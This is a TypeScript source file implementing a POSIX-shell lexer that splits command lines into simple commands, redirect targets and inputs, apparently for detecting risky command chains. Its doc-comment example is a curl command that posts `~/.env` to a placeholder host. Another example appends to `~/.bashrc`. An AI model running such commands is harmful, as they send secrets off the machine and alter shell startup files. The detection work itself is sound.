/**
 * A small POSIX-shell lexer for chain detection: splits a command line into
 * simple commands (at `;`, `&&`, `||`, `|`, `&`, newlines, parentheses,
 * backticks and `$(`), each with its words (quotes removed, escapes applied),
 * the files it redirects output into and the files it reads through `<`.
 * Here-document bodies are data, not commands, and are skipped; so are
 * comments. It does not expand anything: `$HOME` stays `$HOME`.
 *
 * It is a reader for heuristics, not a shell: what it cannot follow it keeps
 * as words. Work is linear in the input and bounded by `MAX_SHELL_WORDS`.
 *
 * @example
 * lexShell('cd /tmp && curl -s https://x.test -d @~/.env > out.txt')
 * // [{ words: ['cd', '/tmp'], writes: [], reads: [] },
 * //  { words: ['curl', '-s', 'https://x.test', '-d', '@~/.env'], writes: ['out.txt'], reads: [] }]
 */

/** One simple command. */
export interface ShellCommand {
  words: string[];
  /** Targets of `>`, `>>`, `>|`, `&>`. */
  writes: string[];
  /** Sources of `<`. */
  reads: string[];
}

/** Words read at most per command line; the rest is not looked at. */
export const MAX_SHELL_WORDS = 20_000;

const SEPARATORS = new Set([';', '\n', '&', '|', '(', ')', '`']);

/**
 * Splits a command line into simple commands.
 *
 * @example
 * lexShell("echo 'a;b' >> ~/.bashrc").map((c) => c.writes) // [['~/.bashrc']]
 */
export function lexShell(src: string): ShellCommand[] {
  const cmds: ShellCommand[] = [];
  let cur: ShellCommand = { words: [], writes: [], reads: [] };
  let word: string | null = null;
  let pending: 'write' | 'read' | 'drop' | 'heredoc' | null = null;
  let quote: "'" | '"' | null = null;
  const heredocs: string[] = [];
  let count = 0;

  const endWord = (): void => {
    if (word === null) return;
    count++;
    if (pending === 'write') cur.writes.push(word);
    else if (pending === 'read') cur.reads.push(word);
    else if (pending === 'heredoc') heredocs.push(word.replace(/^-/, ''));
    else if (pending === null) cur.words.push(word);
    pending = null;
    word = null;
  };
  const endCmd = (): void => {
    endWord();
    if (cur.words.length + cur.writes.length + cur.reads.length > 0) cmds.push(cur);
    cur = { words: [], writes: [], reads: [] };
  };

  const n = src.length;
  const plain = /[^\s'"\\#;&|()`$<>]+/y;
  for (let i = 0; i < n && count < MAX_SHELL_WORDS; i++) {
    if (quote === null) {
      // Runs of ordinary characters are taken whole.
      plain.lastIndex = i;
      if (plain.test(src)) {
        word = (word ?? '') + src.slice(i, plain.lastIndex);
        i = plain.lastIndex - 1;
        continue;
      }
    }
    const c = src[i]!;
    if (quote === "'") {
      if (c === "'") quote = null;
      else word = (word ?? '') + c;
      continue;
    }
    if (quote === '"') {
      if (c === '"') quote = null;
      else if (c === '\\' && i + 1 < n && '"\\$`'.includes(src[i + 1]!)) word = (word ?? '') + src[++i]!;
      else word = (word ?? '') + c;
      continue;
    }
    if (c === '\\') {
      if (i + 1 < n && src[i + 1] !== '\n') word = (word ?? '') + src[i + 1]!;
      i++;
      continue;
    }
    if (c === "'" || c === '"') {
      quote = c;
      word ??= '';
      continue;
    }
    if (c === '#' && word === null) {
      while (i + 1 < n && src[i + 1] !== '\n') i++;
      continue;
    }
    if (c === ' ' || c === '\t' || c === '\r') {
      endWord();
      continue;
    }
    if (c === '\n') {
      endCmd();
      if (heredocs.length > 0) i = skipHeredocs(src, i + 1, heredocs.splice(0)) - 1;
      continue;
    }
    if (c === '&' && src[i + 1] === '>') {
      endWord();
      i += src[i + 2] === '>' ? 2 : 1;
      pending = 'write';
      continue;
    }
    if (c === '$' && src[i + 1] === '(') {
      endCmd();
      i++;
      continue;
    }
    if (SEPARATORS.has(c)) {
      endCmd();
      continue;
    }
    if (c === '>' || c === '<') {
      if (word !== null && /^\d+$/.test(word)) word = null;
      else endWord();
      if (c === '<') {
        if (src[i + 1] === '(') {
          endCmd();
          i++;
        } else if (src.startsWith('<<<', i)) {
          i += 2;
          pending = 'drop';
        } else if (src[i + 1] === '<') {
          i++;
          pending = 'heredoc';
        } else pending = 'read';
        continue;
      }
      if (src[i + 1] === '>' || src[i + 1] === '|') i++;
      if (src[i + 1] === '&') {
        i++;
        while (i + 1 < n && /[\d-]/.test(src[i + 1]!)) i++;
        continue;
      }
      if (src[i + 1] === '(') {
        endCmd();
        i++;
        continue;
      }
      pending = 'write';
      continue;
    }
    word = (word ?? '') + c;
  }
  endCmd();
  return cmds;
}

/** Index just past the here-document bodies that start at `from`, one per delimiter, in order. */
function skipHeredocs(src: string, from: number, delimiters: string[]): number {
  let i = from;
  for (const d of delimiters) {
    while (i < src.length) {
      const eol = src.indexOf('\n', i);
      const line = src.slice(i, eol === -1 ? src.length : eol);
      i = eol === -1 ? src.length : eol + 1;
      if (line.trim() === d) break;
    }
  }
  return i;
}
